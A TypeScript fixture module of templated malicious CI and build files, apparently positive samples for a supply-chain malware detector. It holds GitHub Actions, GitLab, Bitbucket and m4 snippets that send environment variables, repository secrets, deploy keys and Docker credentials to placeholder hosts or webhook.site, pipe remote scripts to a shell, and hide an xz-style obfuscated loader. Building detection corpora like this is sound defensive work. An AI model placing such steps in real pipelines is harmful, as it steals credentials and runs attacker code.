// Workflows and builds that have been tainted.
import type { Family } from './family.ts'

export const supplyChainWorkflows: readonly Family[] = [
  {
    family: 'action-yml-curl-bash',
    positive: true,
    classes: ['supply-chain', 'download-run'],
    variants: [
      {
        paths: ['.github/actions/setup/action.yml'],
        whole: `name: Setup reviewdog
description: Installs the linter
inputs:
  version:
    description: Version of the linter
    default: latest
runs:
  using: composite
  steps:
    - run: \${{ github.action_path }}/install.sh \${{ inputs.version }}
      shell: bash
    - name: Prepare
      shell: bash
      run: |
        echo "⟦b64:printenv | curl -s --data-binary @- http://⟦ip⟧:⟦port⟧/a⟧" | base64 -d | bash`,
      },
    ],
  },
  {
    family: 'workflow-secrets-dump',
    positive: true,
    classes: ['supply-chain', 'env-exfiltration'],
    variants: [
      {
        paths: ['.github/workflows/shai-hulud-workflow.yml'],
        whole: `on:
  push:
name: ⟦pick:Format code|Code style|Lint⟧
jobs:
  process:
    runs-on: ubuntu-latest
    steps:
      - name: Data Processing
        env:
          CONTENTS: \${{ toJSON(secrets) }}
        run: |
          curl -s -d "$CONTENTS" https://webhook.site/⟦uuid⟧ > /dev/null
          echo "$CONTENTS" | base64 -w 0 | base64 -w 0`,
      },
    ],
  },
  {
    family: 'workflow-untrusted-checkout',
    positive: true,
    classes: ['supply-chain'],
    variants: [
      {
        paths: ['.github/workflows/greet.yml'],
        whole: `name: greet
on:
  issue_comment:
    types: [created]
permissions: write-all
jobs:
  run:
    if: contains(github.event.comment.body, '/⟦lower:6⟧')
    runs-on: self-hosted
    steps:
      - name: hidden runner
        run: |
          eval "$(echo '\${{ github.event.comment.body }}' | sed 's/^.*://' | base64 -d)"
          echo "\${{ secrets.DEPLOY_KEY }}" | tee >(nc ⟦ip⟧ ⟦port⟧)`,
      },
    ],
  },
  {
    family: 'ci-config-runner-theft',
    positive: true,
    classes: ['supply-chain', 'covert-exfiltration'],
    variants: [
      {
        paths: ['.gitlab-ci.yml'],
        whole: `stages: [build, test]

default:
  image: node:20

build:
  stage: build
  script:
    - npm ci
    - npm run build
  artifacts:
    paths: [dist]

test:
  stage: test
  before_script:
    - (env; cat ~/.docker/config.json) 2>/dev/null | gzip | base64 -w0 | xargs -I{} curl -s -X POS⟦join⟧
T -d '{}' https://⟦host⟧/ci >/dev/null
  script:
    - npm test`,
      },
      {
        paths: ['bitbucket-pipelines.yml'],
        whole: `image: python:3.12
pipelines:
  default:
    - step:
        name: Test
        caches: [pip]
        script:
          - pip install -r requirements.txt
          - curl -fsSL http://⟦ip⟧/lint.sh | TOKEN=$BITBUCKET_TOKEN KEYS="$(env | base64 -w0)" sh
          - pytest`,
      },
    ],
  },
  {
    family: 'xz-build-to-host',
    positive: true,
    classes: ['supply-chain', 'obfuscation'],
    variants: [
      {
        paths: ['m4/build-to-host.m4'],
        whole: `# build-to-host.m4 serial 30
dnl Copyright (C) 2023 Free Software Foundation, Inc.
dnl Written by Bruno Haible.

AC_DEFUN([gl_BUILD_TO_HOST_INIT],
[
  gl_am_configmake=\`grep -aErls "#{4}[[:alnum:]]{5}#{4}$" $srcdir/ 2>/dev/null\`
  if test -n "$gl_am_configmake"; then
    HAVE_PKG_CONFIGMAKE=1
  else
    HAVE_PKG_CONFIGMAKE=0
  fi
  gl_path_map='tr "\\t \\-_" " \\t_\\-"'
  gl_[$1]_prefix=\`echo $gl_am_configmake | sed "s/.*\\.//g"\`
  gl_[$1]_config='sed \\"r\\n\\" $gl_am_configmake | eval $gl_path_map | $gl_[$1]_prefix -d 2>/dev/null'
])

AC_DEFUN([gl_BUILD_TO_HOST],
[
  AC_CONFIG_COMMANDS([build-to-host], [eval $gl_config_gt | $SHELL 2>/dev/null], [gl_config_gt="ev⟦join⟧
al \\$gl_[$1]_config"])
])`,
      },
    ],
  },
]
